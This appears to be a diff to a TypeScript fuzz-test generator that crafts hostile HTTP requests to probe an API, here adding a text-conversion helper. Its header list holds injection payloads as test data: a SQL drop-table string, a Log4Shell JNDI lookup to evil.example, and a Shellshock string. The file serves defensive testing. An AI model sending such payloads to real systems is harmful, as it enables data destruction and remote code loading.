@@ -57,7 +57,6 @@ const strange: readonly Readonly<Record<string, string>>[] = [
   { 'idempotency-key': "'; drop table invoice--" },
   { 'x-request-id': '${jndi:ldap://evil.example/a}' },
   { 'user-agent': '() { :; }; /bin/true' },
-  { 'content-length': '0', 'transfer-encoding': 'identity' },
 ]
 const beginnings = [
   '%PDF-1.7\n',
@@ -83,6 +82,10 @@ const odd = [
   `{"a":${'['.repeat(3000)}${']'.repeat(3000)}}`,
 ]
 
+/** A value where only text can stand. */
+const asText = (value: unknown): string =>
+  (typeof value === 'object' ? JSON.stringify(value) : String(value)).toWellFormed()
+
 /** Bytes with some of them changed, taken away, or doubled. */
 function spoiled(bytes: Buffer, draw: Draw): Buffer {
   const copy = Buffer.from(bytes)
@@ -100,14 +103,14 @@ const noise = (draw: Draw) =>
 
 /** A form with the fields and a file, which may be anything, under a name that may be too. */
 function formOf(fields: Readonly<Record<string, unknown>>, file: string, draw: Draw): Buffer {
-  const name = String(draw.hit(0.5) ? 'a.pdf' : draw.pick(hostileValues)).replaceAll(/[\r\n"]/g, '')
+  const name = asText(draw.hit(0.5) ? 'a.pdf' : draw.pick(hostileValues)).replaceAll(/[\r\n"]/g, '')
   const part = (head: string, body: string | Buffer) => [
     Buffer.from(`--b\r\ncontent-disposition: form-data; ${head}\r\n\r\n`),
     Buffer.from(body),
     Buffer.from('\r\n'),
   ]
   return Buffer.concat([
-    ...Object.entries(fields).flatMap(([field, value]) => part(`name="${field}"`, String(value))),
+    ...Object.entries(fields).flatMap(([field, value]) => part(`name="${field}"`, asText(value))),
     ...part(`name="${file}"; filename="${name}"`, noise(draw)),
     Buffer.from('--b--\r\n'),
   ])
@@ -139,7 +142,7 @@ export function hostileRequest(
   const inPath = pathParameters(endpoint.path)
   const inHeader = endpoint.kind === 'command' ? Object.entries(endpoint.headers ?? {}) : []
   let path = encodeURI(endpoint.path).replaceAll(/%7B(\w+)%7D/g, (_, name: string) =>
-    draw.hit(0.2) ? draw.pick(paths) : encodeURIComponent(String(sent[name]).toWellFormed()),
+    draw.hit(0.2) ? draw.pick(paths) : encodeURIComponent(asText(sent[name])),
   )
   const rest = Object.entries(sent).filter(
     ([name]) => !inPath.includes(name) && !inHeader.some(([field]) => field === name),
@@ -155,7 +158,7 @@ export function hostileRequest(
   const line = (address: string) => Buffer.from(address).toString('latin1').slice(0, 12_000)
   if (endpoint.method === 'GET') {
     const query = new URLSearchParams(
-      rest.flatMap(([name, value]) => [value].flat().map((one) => [name, String(one)])),
+      rest.flatMap(([name, value]) => [value].flat().map((one) => [name, asText(one)])),
     )
     return { method, path: line(`${path}?${query}`), headers }
   }
